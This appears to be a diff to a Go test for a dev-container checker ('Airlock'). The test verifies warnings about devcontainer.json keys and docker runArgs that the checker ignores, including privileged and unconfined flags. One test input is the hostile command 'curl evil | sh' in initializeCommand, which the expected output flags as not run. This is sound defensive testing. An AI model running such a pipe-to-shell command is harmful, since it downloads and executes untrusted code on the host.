@@ -215,13 +215,12 @@ func TestFindWarnings(t *testing.T) {
 		{
 			name: "keys Airlock does not honour, by name",
 			json: `{"image": "debian:bookworm",
-				"forwardPorts": [8080], "initializeCommand": "curl evil | sh", "postStartCommand": "x",
-				"postAttachCommand": "x", "customizations": {"vscode": {}}, "shutdownAction": "none",
+				"forwardPorts": [8080], "initializeCommand": "curl evil | sh",
+				"customizations": {"vscode": {}}, "shutdownAction": "none",
 				"hostRequirements": {"cpus": 4}, "secrets": {"A": {}}}`,
 			want: []w{
 				{`"customizations" are ignored`, true}, {`"forwardPorts" are not forwarded`, true},
 				{`"hostRequirements" is not checked`, true}, {`"initializeCommand" is not run: it would run on the host`, false},
-				{`"postAttachCommand" is not run`, false}, {`"postStartCommand" is not run`, false},
 				{`"secrets" are not asked for`, false}, {`"shutdownAction" is moot`, true},
 			},
 		},
@@ -247,7 +246,7 @@ func TestFindWarnings(t *testing.T) {
 			name: "runArgs, classified",
 			json: `{"image": "debian:bookworm", "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined",
 				"--privileged", "--init", "-v", "/var/run/docker.sock:/var/run/docker.sock", "-v", "cache:/go/pkg",
-				"--add-host=db:127.0.0.1", "--network", "host"]}`,
+				"--add-host=db:127.0.0.1", "--add-host", "host.docker.internal:host-gateway", "--network", "host"]}`,
 			want: []w{
 				{`runArgs "--cap-add SYS_PTRACE" is not needed`, true},
 				{`runArgs "--security-opt seccomp=unconfined" is not needed`, true},
@@ -255,7 +254,7 @@ func TestFindWarnings(t *testing.T) {
 				{`runArgs "--init" is not needed`, true},
 				{`Docker runs inside the VM instead`, true},
 				{`runArgs "-v cache:/go/pkg" is a named volume`, true},
-				{`runArgs "--add-host db:127.0.0.1" is ignored`, false},
+				{`runArgs "--add-host host.docker.internal:host-gateway": host.docker.internal is the VM itself (127.0.0.1)`, true},
 				{`runArgs "--network host" is ignored`, false},
 			},
 		},
